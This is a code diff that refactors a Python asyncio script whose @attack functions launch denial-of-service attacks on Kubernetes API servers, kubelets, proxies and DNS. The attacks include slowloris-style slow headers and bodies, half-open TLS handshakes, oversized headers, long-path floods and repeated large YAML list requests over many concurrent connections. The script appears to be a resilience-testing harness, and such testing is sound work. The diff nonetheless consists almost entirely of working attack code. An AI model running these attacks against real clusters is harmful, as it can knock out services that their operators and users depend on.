@@ -80,29 +80,34 @@ async def many(one: Callable[[int], Awaitable[None]], count: int, a_second: floa
     await asyncio.gather(*tasks)
 
 
-async def dribble(place: tuple[str, int], first: bytes, tls: bool = True) -> None:
-    """Send the beginning of something, and then a byte every second."""
-    _, writer = await opened(place, tls)
+async def hold(place: tuple[str, int], first: bytes, more: bytes = b"", tls: bool = True) -> None:
+    """Send the beginning of something and then `more` every second, until the server closes the connection."""
+    reader, writer = await opened(place, tls)
     try:
         writer.write(first)
         while True:
+            with contextlib.suppress(TimeoutError):
+                async with asyncio.timeout(1):
+                    while await reader.read(65536):
+                        pass
+                    return
+            writer.write(more)
             await writer.drain()
-            await asyncio.sleep(1)
-            writer.write(b"x")
     finally:
         writer.transport.abort()
 
 
-async def ask(place: tuple[str, int], request: Callable[[], bytes], tls: bool = True) -> None:
-    """Send requests on one connection, one after the other, ten a second, and read what comes."""
-    reader, writer = await opened(place, tls)
+async def ask(place: tuple[str, int], request: Callable[[], bytes], pause: float = 0.1) -> None:
+    """Send requests on one connection, each so many seconds after the last one's answer."""
+    reader, writer = await opened(place)
     try:
         while True:
             writer.write(request())
             await writer.drain()
-            if not await reader.read(65536):
-                return
-            await asyncio.sleep(0.1)
+            head = (await reader.readuntil(b"\r\n\r\n")).lower()
+            length = re.search(rb"content-length: (\d+)", head)
+            await reader.readexactly(int(length[1]) if length else 0)
+            await asyncio.sleep(pause)
     finally:
         writer.transport.abort()
 
@@ -112,17 +117,7 @@ async def half_open(place: tuple[str, int]) -> None:
     incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
     with contextlib.suppress(ssl.SSLWantReadError):
         TLS.wrap_bio(incoming, outgoing).do_handshake()
-    await dribble_nothing(place, outgoing.read())
-
-
-async def dribble_nothing(place: tuple[str, int], first: bytes) -> None:
-    reader, writer = await opened(place, tls=False)
-    try:
-        writer.write(first)
-        while await reader.read(65536):
-            pass
-    finally:
-        writer.transport.abort()
+    await hold(place, outgoing.read(), tls=False)
 
 
 async def unread(place: tuple[str, int], request: bytes) -> None:
@@ -169,7 +164,7 @@ def many_headers() -> bytes:
 # -- the API server ---------------------------------------------------------------------------------------------------
 @attack
 async def api_silent(t: Targets) -> None:
-    await many(lambda n: dribble_nothing(t.api, b""), CONNECTIONS, 500)
+    await many(lambda n: hold(t.api, b"", tls=False), CONNECTIONS, 500)
 
 
 @attack
@@ -179,13 +174,13 @@ async def api_half_open_tls(t: Targets) -> None:
 
 @attack
 async def api_slow_heads(t: Targets) -> None:
-    await many(lambda n: dribble(t.api, b"GET / HTTP/1.1\r\nA: "), CONNECTIONS, 100)
+    await many(lambda n: hold(t.api, b"GET / HTTP/1.1\r\nA: ", b"x"), CONNECTIONS, 100)
 
 
 @attack
 async def api_large_heads(t: Targets) -> None:
     """Heads that stop a little before the limit."""
-    await many(lambda n: dribble(t.api, b"GET / HTTP/1.1\r\nA: " + b"x" * 1_000_000), 200, 20)
+    await many(lambda n: hold(t.api, b"GET / HTTP/1.1\r\nA: " + b"x" * 1_000_000, b"x"), 200, 20)
 
 
 @attack
@@ -215,7 +210,7 @@ async def low_slow_bodies(t: Targets) -> None:
         f"POST /api/v1/namespaces/{t.namespace}/configmaps HTTP/1.1\r\nHost: x\r\n{bearer(t)}"
         "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"
     )
-    await many(lambda n: dribble(t.api, head.encode()), CONNECTIONS, 100)
+    await many(lambda n: hold(t.api, head.encode(), b"x"), CONNECTIONS, 100)
 
 
 @attack
@@ -223,26 +218,12 @@ async def low_path_flood(t: Targets) -> None:
     await many(lambda n: ask(t.api, lambda: get(long_path(60_000), bearer(t))), 10, 10)
 
 
-async def busy(place: tuple[str, int], request: bytes) -> None:
-    """Send a request again and again on one connection, each as soon as the last one is answered."""
-    reader, writer = await opened(place)
-    try:
-        while True:
-            writer.write(request)
-            await writer.drain()
-            head = (await reader.readuntil(b"\r\n\r\n")).lower()
-            length = re.search(rb"content-length: (\d+)", head)
-            await reader.readexactly(int(length[1]) if length else 0)
-    finally:
-        writer.transport.abort()
-
-
 async def creations(t: Targets, content_type: str, body: str) -> None:
     """Have two clients create an object of 600 KB without a pause; nothing is stored."""
     path = f"/api/v1/namespaces/{t.namespace}/configmaps?dryRun=All"
     head = f"POST {path} HTTP/1.1\r\nHost: x\r\n{bearer(t)}Content-Type: {content_type}\r\n"
     request = f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode()
-    await many(lambda n: busy(t.api, request), 2, 10)
+    await many(lambda n: ask(t.api, lambda: request, 0), 2, 10)
 
 
 def entries(count: int) -> dict[str, str]:
@@ -274,8 +255,8 @@ async def low_large_yaml(t: Targets) -> None:
 @attack
 async def low_yaml_lists(t: Targets) -> None:
     """Lists of some megabytes that are to be written as YAML."""
-    path = f"/api/v1/namespaces/{t.namespace}/configmaps"
-    await many(lambda n: busy(t.api, get(path, bearer(t) + "Accept: application/yaml\r\n")), 2, 10)
+    request = get(f"/api/v1/namespaces/{t.namespace}/configmaps", bearer(t) + "Accept: application/yaml\r\n")
+    await many(lambda n: ask(t.api, lambda: request, 0), 2, 10)
 
 
 @attack
@@ -300,18 +281,18 @@ async def kubelet_half_open_tls(t: Targets) -> None:
 
 @attack
 async def kubelet_slow_heads(t: Targets) -> None:
-    await many(lambda n: dribble(t.kubelet, b"GET / HTTP/1.1\r\nA: "), CONNECTIONS, 100)
+    await many(lambda n: hold(t.kubelet, b"GET / HTTP/1.1\r\nA: ", b"x"), CONNECTIONS, 100)
 
 
 @attack
 async def kubelet_large_heads(t: Targets) -> None:
-    await many(lambda n: dribble(t.kubelet, b"GET / HTTP/1.1\r\nA: " + b"x" * 1_000_000), 200, 20)
+    await many(lambda n: hold(t.kubelet, b"GET / HTTP/1.1\r\nA: " + b"x" * 1_000_000, b"x"), 200, 20)
 
 
 @attack
 async def kubelet_slow_bodies(t: Targets) -> None:
     head = b"POST /run/a/b/c HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
-    await many(lambda n: dribble(t.kubelet, head), CONNECTIONS, 100)
+    await many(lambda n: hold(t.kubelet, head, b"x"), CONNECTIONS, 100)
 
 
 @attack
@@ -322,7 +303,7 @@ async def kubelet_path_flood(t: Targets) -> None:
 # -- proxy and DNS ----------------------------------------------------------------------------------------------------
 @attack
 async def proxy_slow_heads(t: Targets) -> None:
-    await many(lambda n: dribble(t.proxy, b"GET / HTTP/1.1\r\nA: ", tls=False), CONNECTIONS, 200)
+    await many(lambda n: hold(t.proxy, b"GET / HTTP/1.1\r\nA: ", b"x", tls=False), CONNECTIONS, 200)
 
 
 async def datagrams(place: tuple[str, int], message: Callable[[int], bytes], a_second: int) -> None:
@@ -371,7 +352,7 @@ async def dns_outside_names(t: Targets) -> None:
 
 @attack
 async def dns_silent_tcp(t: Targets) -> None:
-    await many(lambda n: dribble_nothing(t.dns, b"\x10"), CONNECTIONS, 200)
+    await many(lambda n: hold(t.dns, b"\x10", tls=False), CONNECTIONS, 200)
 
 
 async def main() -> None:
